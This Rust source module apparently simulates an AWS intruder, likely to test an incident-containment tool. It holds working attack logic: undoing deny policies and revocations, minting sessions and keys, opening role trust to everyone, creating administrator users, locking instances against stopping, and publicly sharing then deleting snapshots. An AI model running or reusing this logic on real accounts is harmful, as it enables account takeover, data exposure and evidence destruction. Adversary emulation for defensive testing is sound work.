//! What an intruder tries.

use serde_json::{Value, json};

use super::wallet::{Credential, key_in};
use super::{Adversary, Aim, Answer, Ask, Deed};

/// IAM's events and signatures are at home here.
const HOME: &str = "us-east-1";
/// What everybody who locks somebody out attaches.
const DENY_ALL: &str = "arn:aws:iam::aws:policy/AWSDenyAll";
/// What it wants for every user that it makes.
const ADMINISTRATOR: &str = "arn:aws:iam::aws:policy/AdministratorAccess";
/// How many users it makes at the most.
const MADE: usize = 3;
/// How many machines it starts in a round.
const STARTED: usize = 3;
/// How many snapshots it spoils in a round.
const SPOILED: usize = 3;

/// What lets everybody of an account enter a role.
fn trust(principal: &str) -> String {
    let statement = json!({ "Effect": "Allow", "Principal": { "AWS": principal }, "Action": "sts:AssumeRole" });
    json!({ "Version": "2012-10-17", "Statement": [statement] }).to_string()
}

impl Adversary {
    async fn iam(&mut self, with: &Credential, operation: &str, parameters: Value) -> Option<Answer> {
        let ask = Ask { region: HOME, service: "iam", operation, with: &parameters };
        self.attempt(with, Aim::Policy, ask).await
    }

    async fn ec2(
        &mut self,
        with: &Credential,
        aim: Aim,
        (region, operation): (&str, &str),
        parameters: Value,
    ) -> Option<Answer> {
        self.attempt(with, aim, Ask { region, service: "ec2", operation, with: &parameters }).await
    }

    /// Gets sessions: of its roles, and of the user itself, which outlives the key.
    pub(super) async fn enter(&mut self, with: &Credential) {
        for role in self.intruder.roles.clone() {
            let Some(name) = role.rsplit('/').next() else { continue };
            let parameters = json!({ "RoleArn": role, "RoleSessionName": "audit" });
            let ask = Ask { region: HOME, service: "sts", operation: "AssumeRole", with: &parameters };
            if let Some(key) = self.attempt(with, Aim::Enter, ask).await.as_ref().and_then(key_in) {
                let account = self.intruder.account.clone();
                self.wallet.add_session(&account, format!("role {name}"), key);
            }
        }
        let name = format!("session of {}", with.name);
        if with.key.token.is_none() && !self.wallet.has(&name) {
            let ask = Ask { region: HOME, service: "sts", operation: "GetSessionToken", with: &json!({}) };
            if let Some(key) = self.attempt(with, Aim::Enter, ask).await.as_ref().and_then(key_in) {
                self.wallet.add_session(&with.account, name, key);
            }
        }
    }

    /// Switches its keys on, takes off what denies, and makes users and keys.
    pub(super) async fn unlock(&mut self, with: &Credential) {
        for user in self.users.clone() {
            self.iam(with, "DetachUserPolicy", json!({ "UserName": user, "PolicyArn": DENY_ALL })).await;
            self.iam(with, "DeleteUserPermissionsBoundary", json!({ "UserName": user })).await;
            if let Some(inline) = self.iam(with, "ListUserPolicies", json!({ "UserName": user })).await {
                for name in inline.all("PolicyNames").filter(|name| name.starts_with("Quell")) {
                    self.iam(with, "DeleteUserPolicy", json!({ "UserName": user, "PolicyName": name })).await;
                }
            }
            if let Some(made) = self.iam(with, "CreateAccessKey", json!({ "UserName": user })).await
                && let Some(key) = key_in(&made)
            {
                self.wallet.add_key(&with.account, &user, key);
            }
            for key in self.wallet.keys_of(&with.account, &user) {
                let parameters = json!({ "UserName": user, "AccessKeyId": key, "Status": "Active" });
                self.iam(with, "UpdateAccessKey", parameters).await;
            }
        }
        for role in self.intruder.roles.clone() {
            let Some(name) = role.rsplit('/').next() else { continue };
            let old = json!({ "RoleName": name, "PolicyName": "AWSRevokeOlderSessions" });
            self.iam(with, "DeleteRolePolicy", old).await;
            self.iam(with, "DetachRolePolicy", json!({ "RoleName": name, "PolicyArn": DENY_ALL })).await;
            let everybody = json!({ "RoleName": name, "PolicyDocument": trust("*") });
            self.iam(with, "UpdateAssumeRolePolicy", everybody).await;
        }
        let name = format!("svc-{}", self.users.len());
        let made = self.users.iter().filter(|user| user.starts_with("svc-")).count();
        if made < MADE && self.iam(with, "CreateUser", json!({ "UserName": name })).await.is_some() {
            self.iam(with, "AttachUserPolicy", json!({ "UserName": name, "PolicyArn": ADMINISTRATOR })).await;
            self.users.insert(name);
        }
    }

    /// Starts its machines, keeps them from being stopped, and launches others as it did before.
    pub(super) async fn compute(&mut self, with: &Credential) {
        let Some(here) = self.here() else { return };
        let theirs = self.intruder.machines.iter().filter(|(region, _)| *region == here);
        let machines: Vec<String> = theirs.map(|(_, id)| id.clone()).collect();
        for machine in machines.iter().take(STARTED) {
            self.ec2(with, Aim::Compute, (here.as_str(), "StartInstances"), json!({ "InstanceId": [machine] })).await;
        }
        if let Some(machine) = machines.first() {
            let locked = json!({ "InstanceId": machine, "DisableApiStop": { "Value": true } });
            self.ec2(with, Aim::Compute, (here.as_str(), "ModifyInstanceAttribute"), locked).await;
        }
        let deeds: Vec<Deed> = self.intruder.deeds.iter().filter(|deed| deed.region == here).cloned().collect();
        for Deed { service, operation, with: parameters, .. } in &deeds {
            let ask = Ask { region: here.as_str(), service, operation, with: parameters };
            let aim = if service == "iam" { Aim::Policy } else { Aim::Compute };
            self.attempt(with, aim, ask).await;
            if operation == "CreateAutoScalingGroup" {
                let group = json!({ "AutoScalingGroupName": parameters["AutoScalingGroupName"] });
                let ask = Ask { region: here.as_str(), service, operation: "ResumeProcesses", with: &group };
                self.attempt(with, Aim::Compute, ask).await;
            }
        }
    }

    /// Looks for evidence, shares it with itself, and deletes it.
    pub(super) async fn spoil(&mut self, with: &Credential) {
        let Some(here) = self.here() else { return };
        let own = json!({ "Owner": ["self"] });
        let Some(found) = self.ec2(with, Aim::Evidence, (here.as_str(), "DescribeSnapshots"), own).await else {
            return;
        };
        let snapshots: Vec<String> = found.all("snapshotId").take(SPOILED).map(str::to_owned).collect();
        for snapshot in snapshots {
            let shared = json!({
                "SnapshotId": snapshot, "Attribute": "createVolumePermission", "OperationType": "add", "UserGroup": ["all"],
            });
            self.ec2(with, Aim::Evidence, (here.as_str(), "ModifySnapshotAttribute"), shared).await;
            let gone = json!({ "SnapshotId": snapshot });
            self.ec2(with, Aim::Evidence, (here.as_str(), "DeleteSnapshot"), gone).await;
        }
    }
}
